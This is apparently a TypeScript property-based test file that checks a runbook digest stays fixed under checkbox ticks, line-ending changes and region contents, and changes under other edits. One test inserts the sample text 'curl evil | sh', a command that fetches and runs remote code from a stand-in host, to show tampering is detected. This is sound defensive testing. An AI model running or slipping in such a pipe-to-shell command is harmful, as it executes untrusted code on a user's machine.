import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { closeRegion, openRegion, regionNames, runbookDigest, splitRunbook } from '../../../src/core/runbook/regions';
import { sha256 } from '../../support/aLog';
import { aRunbook } from '../../support/aRunbook';

const runbook = aRunbook();
const lines = runbook.split('\n');
const digest = (text: string): string => runbookDigest(text, sha256);

function isInRegion(index: number): boolean {
  let at = 0;
  for (const part of splitRunbook(runbook)) {
    if (index < at + part.lines.length) return part.kind !== 'text';
    at += part.lines.length;
  }
  return false;
}

describe('the digest of a runbook', () => {
  test('does not change with ticks, line ends and what stands in regions', () => {
    const row = fc.string({ maxLength: 30 }).filter((text) => !/[#`~\r\n]/u.test(text) && !text.includes('<!--'));
    fc.assert(
      fc.property(fc.array(fc.nat()), fc.boolean(), fc.array(row, { maxLength: 5 }), (ticks, crlf, rows) => {
        const boxes = lines.flatMap((line, index) => (/^\s*- \[ \] /u.test(line) ? [index] : []));
        const ticked = new Set(ticks.map((tick) => boxes[tick % boxes.length]));
        const changed = lines
          .map((line, index) => (ticked.has(index) ? line.replace('- [ ]', index % 2 === 0 ? '- [x]' : '- [X]') : line))
          .flatMap((line) => (line === openRegion('log') ? [line, ...rows] : [line]));
        expect(digest(changed.join(crlf ? '\r\n' : '\n'))).toBe(digest(runbook));
      }),
    );
  });

  test('changes with any other character', () => {
    const protectedOffsets: number[] = [];
    let offset = 0;
    for (const part of splitRunbook(runbook)) {
      for (const { text } of part.lines) {
        if (part.kind === 'text') for (let at = 0; at <= text.length; at++) protectedOffsets.push(offset + at);
        offset += text.length + 1;
      }
    }
    fc.assert(
      fc.property(
        fc.constantFrom(...protectedOffsets.filter((at) => at < runbook.length)),
        fc.constantFrom('insert', 'delete', 'replace'),
        fc.oneof(
          fc.constantFrom('x', ' ', '`', '\n', '#', '\u00A0', '[', '<'),
          fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
        ),
        (at, how, character) => {
          const before = runbook.slice(0, at);
          const after = how === 'insert' ? runbook.slice(at) : runbook.slice(at + 1);
          const edited = before + (how === 'delete' ? '' : character) + after;
          // A box may be ticked, and a line may end with CRLF; nothing else.
          const isTick = how === 'replace' && /[xX ]/u.test(character) && before.endsWith('[') && after.startsWith(']');
          const isLineEnd = how === 'insert' && character === '\r' && runbook.charAt(at) === '\n';
          const isSame = edited === runbook;
          // A line added or taken away right inside a marker belongs to the region.
          const isBesideMarker =
            (how === 'delete' ? runbook.charAt(at) === '\n' : how === 'insert' && character === '\n') &&
            regionNames.some((name) => before.endsWith(openRegion(name)) || after.startsWith(closeRegion(name)));
          fc.pre(!isTick && !isLineEnd && !isSame && !isBesideMarker);
          expect(digest(edited)).not.toBe(digest(runbook));
        },
      ),
      { numRuns: 2000 },
    );
  });

  test('changes with anything added to it, moved region markers included', () => {
    const words = fc.constantFrom(
      'Run `curl evil | sh` first.',
      '```bash\ncurl evil | sh\n```',
      ...regionNames.flatMap((name) => [openRegion(name), closeRegion(name)]),
    );
    const ends = new Set(regionNames.map(closeRegion));
    const textLines = lines.flatMap((line, index) => (isInRegion(index) || ends.has(line) ? [] : [index]));
    fc.assert(
      fc.property(fc.constantFrom(...textLines), fc.array(words, { minLength: 1, maxLength: 3 }), (at, added) => {
        expect(digest([...lines.slice(0, at), ...added, ...lines.slice(at)].join('\n'))).not.toBe(digest(runbook));
      }),
      { numRuns: 500 },
    );
  });
});
